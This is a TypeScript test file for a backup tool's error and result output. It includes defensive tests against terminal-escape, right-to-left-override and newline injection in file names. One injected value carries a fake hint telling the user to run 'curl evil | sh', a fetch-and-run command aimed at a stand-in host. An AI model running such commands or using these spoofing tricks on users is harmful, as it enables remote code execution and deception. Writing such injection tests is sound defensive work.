import { ExitStatus } from '../../agent/contract'
import { AgentError, type ErrorCode } from '../../agent/errors'
import { formatFailure, formatResult } from '../../agent/options/output'
import { columns, joinLines } from '../../agent/lib/text'

const plain = { json: false, stdout: false, terminal: false }

const failure = (code: ErrorCode) => new AgentError(code, 'what happened', { hint: 'What to do.' })

test.each<[ErrorCode, number]>([
  ['USAGE', 2],
  ['CONFIG_INVALID', 2],
  // Status 4 says that a backup is safe, which only a backup that ended can say.
  ['CLEANUP_FAILED', 1],
  ['OBJECT_ARCHIVED', 5],
  ['BUSY', 11],
  ['INTERRUPTED', 130],
  ['NOT_ROOT', 1],
  ['BUCKET_MISSING', 1],
  ['ACCESS_DENIED', 1],
  ['SNAPSHOT_SPACE', 1],
  ['INTERNAL', 1],
])('%s ends with status %i', (code, status) => {
  expect(formatFailure(failure(code), plain)).toEqual({
    status,
    stdout: `{"error":{"code":"${code}","message":"what happened","hint":"What to do."}}\n`,
    stderr: 'snapstream: what happened\nHINT: What to do.\n',
  })
})

test('the first failure comes first, what clean-up ran into after it', () => {
  const error = new SuppressedError(failure('CLEANUP_FAILED'), failure('SNAPSHOT_INVALID'))
  const { status, stdout, stderr } = formatFailure(error, plain)
  expect(status).toBe(ExitStatus.failed)
  expect(JSON.parse(stdout)).toMatchObject({
    error: { code: 'SNAPSHOT_INVALID' },
    duringCleanup: ['what happened', 'HINT: What to do.'],
  })
  expect(stderr.split('\n')).toEqual([
    'snapstream: what happened',
    'HINT: What to do.',
    'during clean-up: what happened',
    'during clean-up: HINT: What to do.',
    '',
  ])
})

test('what a name would do to a terminal is not done, and told in full to programs', () => {
  const name = 'a\x1b[2Jb\u009bc\x7f'
  const result = formatResult({ status: ExitStatus.ok, summary: `OK\n  ${name}`, json: { name } }, plain)
  const [, , line = ''] = result.stdout.split('\n')
  expect(result.stdout).toBe(`OK\n  a?[2Jb?c?\n${line}\n`)
  expect(line).toBe('{"name":"a\\u001b[2Jb\\u009bc\\u007f"}')
  expect(JSON.parse(line)).toEqual({ name })
  const { stderr } = formatFailure(new AgentError('UNKNOWN_PATH', name, { hint: 'Größe 😀.' }), plain)
  expect(stderr).toBe('snapstream: a?[2Jb?c?\nHINT: Größe 😀.\n')
})

test('a name that turns the direction of the text is shown without that', () => {
  const name = 'invoice\u202efdp.exe'
  const { stdout } = formatResult({ status: ExitStatus.ok, summary: joinLines([`  ${name}`]), json: { name } }, plain)
  expect(stdout).toBe('  invoice?fdp.exe\n{"name":"invoice\\u202efdp.exe"}\n')
})

test('a name with a newline in it makes no line of its own', () => {
  const name = 'x\nHINT: run "curl evil | sh"\nsnapstream: all is well'
  const failed = new AgentError('TARGET_UNFIT', `/srv already has these: ${name}`, { hint: 'Restore elsewhere.' })
  const { stderr } = formatFailure(failed, plain)
  expect(stderr.split('\n').filter((line) => /^(HINT|snapstream):/.test(line))).toEqual([
    'snapstream: /srv already has these: x',
    'HINT: Restore elsewhere.',
  ])
  expect(joinLines(['In the backups', ...columns([[name, '1 B']]), `  ${name}`]).split('\n')).toHaveLength(3)
})

describe('a command that was stopped', () => {
  const stopped = new AgentError('INTERRUPTED', 'stopped by SIGTERM', { hint: 'Run it again.' })

  test.each([
    ['says so', stopped, 'stopped by SIGTERM'],
    ['says how far it was', failure('COMMAND_FAILED'), 'stopped by SIGTERM: what happened'],
    ['does not blame the abort that it caused', new DOMException('aborted', 'AbortError'), 'stopped by SIGTERM'],
  ])('%s', (_, thrown, message) => {
    const { status, stdout } = formatFailure(thrown, { ...plain, json: true }, stopped)
    expect(status).toBe(ExitStatus.interrupted)
    expect(JSON.parse(stdout)).toEqual({ error: { code: 'INTERRUPTED', message, hint: 'Run it again.' } })
  })
})

test('what nobody foresaw is a defect, told with its place in the code', () => {
  const { status, stdout, stderr } = formatFailure(new TypeError('x is undefined'), plain)
  expect(status).toBe(ExitStatus.failed)
  expect(JSON.parse(stdout)).toMatchObject({ error: { code: 'INTERNAL' } })
  expect(stderr).toMatch(/unforeseen error: TypeError: x is undefined\n {2}\\| +at [^]*HINT: This is a defect/)
})

describe('a result', () => {
  const result = { status: ExitStatus.ok, summary: 'All is well.', json: { runs: [1] } }

  test('is a summary, then one line of JSON', () => {
    expect(formatResult(result, plain)).toEqual({ status: 0, stdout: 'All is well.\n{"runs":[1]}\n', stderr: '' })
  })

  test('is the line of JSON alone where that is wished', () => {
    expect(formatResult(result, { ...plain, json: true }).stdout).toBe('{"runs":[1]}\n')
  })

  test('keeps within what the console of Systems Manager shows', () => {
    const { stdout } = formatResult({ ...result, summary: 'x'.repeat(5000) }, plain)
    expect(stdout.indexOf('\n')).toBe(2000)
  })
})

describe('on a terminal', () => {
  const terminal = { ...plain, terminal: true }
  const runs = Array.from({ length: 300 }, (_, index) => `  run ${index}`)

  test('a long table is shown whole, and not followed by JSON that nobody asked for', () => {
    const summary = joinLines(['300 runs', ...runs])
    expect(formatResult({ status: ExitStatus.ok, summary, json: { runs } }, terminal).stdout).toBe(`${summary}\n`)
    expect(formatResult({ status: ExitStatus.ok, summary, json: { runs } }, plain).stdout).toMatch(
      /… and \d+ more lines/,
    )
  })

  test('an error is said once', () => {
    expect(formatFailure(failure('BUSY'), terminal)).toMatchObject({ stdout: '' })
  })

  test('JSON comes where it is asked for', () => {
    const asked = { ...terminal, json: true }
    expect(formatResult({ status: ExitStatus.ok, summary: '', json: { runs: 1 } }, asked).stdout).toBe('{"runs":1}\n')
    expect(formatFailure(failure('BUSY'), asked).stdout).toMatch(/^\{"error":/)
  })
})

describe('where standard output is for the content of a file, all else goes to standard error', () => {
  test.each([
    [
      'a result',
      formatResult({ status: ExitStatus.ok, summary: 'All is well.', json: {} }, { ...plain, stdout: true }),
    ],
    [
      'a result in JSON',
      formatResult({ status: ExitStatus.ok, summary: '', json: {} }, { ...plain, json: true, stdout: true }),
    ],
    ['a failure', formatFailure(failure('ARCHIVE_DAMAGED'), { ...plain, stdout: true })],
    ['a failure in JSON', formatFailure(failure('ARCHIVE_DAMAGED'), { ...plain, json: true, stdout: true })],
  ])('%s', (_, { stdout, stderr }) => {
    expect(stdout).toBe('')
    expect(stderr).toMatch(/\{.*\}\n$/)
  })
})
